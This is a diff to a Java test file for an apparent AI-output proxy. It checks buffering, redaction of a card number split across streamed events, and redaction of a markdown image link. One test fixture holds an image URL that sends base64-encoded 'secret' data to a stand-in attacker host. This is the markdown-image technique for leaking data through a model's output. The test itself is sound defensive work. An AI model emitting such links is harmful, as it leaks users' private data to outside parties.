@@ -3,12 +3,15 @@ package io.infershield.proxy.service;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import io.infershield.proxy.config.ProxyConfig;
+import io.infershield.proxy.security.Category;
+import io.infershield.proxy.security.CategoryPolicy;
 import io.infershield.proxy.security.Detector;
 import io.infershield.proxy.security.ExfiltrationDetector;
 import io.infershield.proxy.security.PiiDetector;
 import io.infershield.proxy.security.Policy;
 import io.infershield.proxy.security.PolicyAction;
 import io.infershield.proxy.security.SecretDetector;
+import io.infershield.proxy.security.StreamScanner;
 import org.junit.jupiter.api.Test;
 
 import java.lang.reflect.Proxy;
@@ -61,19 +64,61 @@ class StreamGuardTest {
     }
 
     @Test
-    void textIsHeldBackByAtMostTheLookBackWhateverTheAnswerLength() throws Exception {
-        StreamGuard guard = guard(Policy.defaults(), 64);
+    void proseLeavesAHoldBehindTheModelNotALookBackWhateverTheAnswerLength() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 1024);
         long fed = 0;
         StringBuilder released = new StringBuilder();
         for (int i = 0; i < 500; i++) {
             String delta = "word" + (i % 10) + " ";
             fed += delta.length();
             released.append(text(new String(guard.accept(event(delta)), StandardCharsets.UTF_8)));
-            assertTrue(fed - released.length() <= 64 + delta.length(),
-                    "held " + (fed - released.length()) + " chars after " + fed);
+            long held = fed - released.length();
+            assertTrue(held <= StreamScanner.HOLD + delta.length(), "held " + held + " chars after " + fed);
+            if (fed >= StreamScanner.HOLD + delta.length()) {
+                assertTrue(held >= StreamScanner.HOLD, "held " + held + " chars after " + fed);
+            }
         }
         released.append(text(new String(guard.finish(), StandardCharsets.UTF_8)));
         assertEquals(fed, released.length(), "everything leaves by the end");
+    }
+
+    @Test
+    void aCardNumberInGroupsOverManyEventsNeverLeavesInPart() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 1024);
+        StringBuilder out = new StringBuilder();
+        out.append(new String(guard.accept(event("x ".repeat(100) + "Your card is ")), StandardCharsets.UTF_8));
+        for (String group : new String[] {"4532 ", "2132 ", "5425 ", "4426"}) {
+            String sent = text(out.append(new String(guard.accept(event(group)), StandardCharsets.UTF_8)).toString());
+            assertFalse(sent.contains("4532"), "no group leaves before the number is judged: " + sent);
+        }
+        out.append(new String(guard.accept(event(", charged twice. ")), StandardCharsets.UTF_8));
+        for (int i = 0; i < 40; i++) {
+            out.append(new String(guard.accept(event("y ")), StandardCharsets.UTF_8));
+        }
+        assertTrue(text(out.toString()).contains("Your card is [REDACTED:credit_card], charged"), text(out.toString()));
+        out.append(new String(guard.finish(), StandardCharsets.UTF_8));
+        assertEquals("x ".repeat(100) + "Your card is [REDACTED:credit_card], charged twice. " + "y ".repeat(40),
+                text(out.toString()));
+    }
+
+    @Test
+    void aFindingLongerThanTheHoldIsCutFromWhereItIsStillHeldWithItsPlaceholderThere() throws Exception {
+        Policy redactLinks = Policy.defaults().with(Category.EXFILTRATION, new CategoryPolicy(60, PolicyAction.REDACT));
+        StreamGuard guard = guard(redactLinks, 1024);
+        String alt = "a chart of the quarterly numbers that you asked for, drawn from the table above it";
+        StringBuilder out = new StringBuilder();
+        for (String word : ("Here: ![" + alt + "]").split("(?<= )")) {
+            out.append(new String(guard.accept(event(word)), StandardCharsets.UTF_8));
+        }
+        String released = text(out.toString());
+        assertTrue(released.startsWith("Here: ![a chart"), "the alt text leaves before the URL comes: " + released);
+        out.append(new String(guard.accept(event("(https://evil.example.com/c?d=c2VjcmV0LWRhdGEtaGVyZQ) ok")),
+                StandardCharsets.UTF_8));
+        out.append(new String(guard.finish(), StandardCharsets.UTF_8));
+        String all = text(out.toString());
+        assertFalse(all.contains("evil.example.com"), all);
+        assertEquals(1, all.split("\\[REDACTED:markdown_image]", -1).length - 1, all);
+        assertTrue(all.endsWith("[REDACTED:markdown_image] ok"), all);
     }
 
     @Test
